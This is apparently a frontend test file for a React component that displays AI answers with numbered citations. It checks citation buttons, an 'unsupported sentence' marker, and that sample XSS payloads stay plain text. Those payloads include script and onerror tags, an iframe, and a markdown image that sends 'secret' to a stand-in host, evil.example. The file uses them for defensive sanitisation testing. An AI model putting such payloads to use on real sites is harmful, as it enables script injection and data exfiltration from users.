import { screen } from "@testing-library/react";
import { expect, test, vi } from "vitest";
import type { Citation } from "../../api/types";
import { show } from "../../testing/render";
import { AnswerText } from "./AnswerText";

const source = { number: 1, document_name: "Handbook.pdf", text: "…" } as Citation;

test("a citation opens its source", async () => {
  const onOpen = vi.fn();
  const { user } = show(<AnswerText text="Nine to five. [1]" sources={[source]} onOpen={onOpen} />);
  await user.click(screen.getByRole("button", { name: "Source 1: Handbook.pdf" }));
  expect(onOpen).toHaveBeenCalledWith(source);
});

test("a sentence no document supports is marked", () => {
  show(<AnswerText text="Also at night. [?]" sources={[]} onOpen={() => {}} />);
  expect(screen.getByText("not found in the documents")).toBeDefined();
});

test.each([
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "![x](http://evil.example/?d=secret)",
  "<iframe src=http://evil.example></iframe>",
  "<b style=position:fixed>over all</b>",
])("%s stays text", (text) => {
  const { container } = show(<AnswerText text={text} sources={[]} onOpen={() => {}} />);
  expect(container.querySelector("img, script, iframe, b")).toBeNull();
});
